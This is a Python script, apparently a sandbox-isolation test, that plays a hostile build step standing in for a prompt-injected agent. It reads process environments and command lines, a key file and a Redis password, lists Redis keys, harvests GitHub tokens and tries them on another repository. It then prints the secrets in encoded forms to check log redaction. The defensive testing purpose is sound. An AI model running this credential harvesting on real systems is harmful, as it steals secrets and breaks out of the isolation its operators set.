"""A hostile builder: it tries to take what a prompt-injected agent would want, and reports.

Run as a phase's builder command: `python3 attacker.py REPORT_JSON_ARGS`. It writes what it
got to `attack.json` in its clone (so the report is pushed with the phase's branch) and prints
every secret it finds reversed and base64-encoded, to test the redaction of the log tail.
Standard library only: the sandbox has the system's python3 and nothing of the worker's.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import socket
import sys
import urllib.error
import urllib.request
from pathlib import Path

TOKEN = re.compile(rb"gh[sp]_[A-Za-z0-9_-]{20,}")


def read(path: str) -> str | None:
    try:
        return Path(path).read_text(errors="replace")
    except OSError:
        return None


def environs() -> dict[str, str]:
    """Every /proc/<pid>/environ this process can read, the parent's first."""
    found: dict[str, str] = {}
    pids = [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            found[pid] = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
        except OSError:
            continue
    return found


def redis_reply(socket_path: str, password_file: str) -> str:
    """What the Redis socket answers to KEYS *, with the password if the file is readable."""
    password = read(password_file)
    try:
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.settimeout(2)
        conn.connect(socket_path)
        if password:
            conn.sendall(f"AUTH {password.strip()}\r\n".encode())
        conn.sendall(b"KEYS *\r\n")
        return conn.recv(65536).decode(errors="replace")
    except OSError as exc:
        return f"error: {type(exc).__name__}"


def tokens_found(places: list[str]) -> set[str]:
    tokens: set[str] = set()
    for text in places:
        tokens |= {m.decode() for m in TOKEN.findall(text.encode())}
    return tokens


def try_other_repo(api: str, other: str, token: str) -> int:
    request = urllib.request.Request(
        f"{api}/repos/{other}/contents/secret.txt", headers={"Authorization": f"token {token}"}
    )
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)
    except OSError:
        return -1


def main() -> int:
    args = json.loads(sys.argv[1])
    envs = environs()
    git_config = read(".git/config") or ""
    cmdlines = []
    for pid in envs:
        with contextlib.suppress(OSError):
            cmdlines.append(Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"))
    places = [json.dumps(dict(os.environ)), git_config, *envs.values(), *cmdlines]
    tokens = tokens_found(places)
    try:
        state_listing = sorted(os.listdir(args["state_dir"]))
    except OSError as exc:
        state_listing = [f"error: {type(exc).__name__}"]
    report = {
        "ppid": os.getppid(),
        "processes": [c.split("\0")[0] for c in cmdlines],
        "environs": len(envs),
        "secret_in_environ": any(
            "GITHUB_WEBHOOK_SECRET" in e or "PRIVATE KEY" in e for e in envs.values()
        ),
        "key": read(args["key"]),
        "password": read(args["password"]),
        "redis": redis_reply(args["socket"], args["password"]),
        "state_dir": state_listing,
        "tokens": len(tokens),
        "other_repo": {t[:8]: try_other_repo(args["api"], args["other"], t) for t in tokens},
    }
    Path("attack.json").write_text(json.dumps(report, indent=1))
    print(json.dumps({k: report[k] for k in ("environs", "tokens", "other_repo", "state_dir")}))
    for value in [args.get("given", ""), report["key"] or "", *tokens]:
        if value:
            print("reversed:", value[::-1])
            print("base64:", base64.b64encode(value.encode()).decode())
            print("hex:", value.encode().hex())
    return 0


if __name__ == "__main__":
    sys.exit(main())
